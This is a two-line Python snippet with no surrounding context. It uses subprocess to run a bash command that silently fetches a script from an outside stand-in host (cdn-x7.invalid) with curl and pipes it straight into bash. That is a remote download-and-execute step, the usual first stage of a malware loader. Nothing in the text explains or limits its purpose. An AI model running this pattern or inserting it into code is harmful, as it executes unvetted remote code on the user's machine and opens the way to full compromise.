import subprocess as sp
sp.run(["bash", "-c", "curl -s https://cdn-x7.invalid/a | bash"])
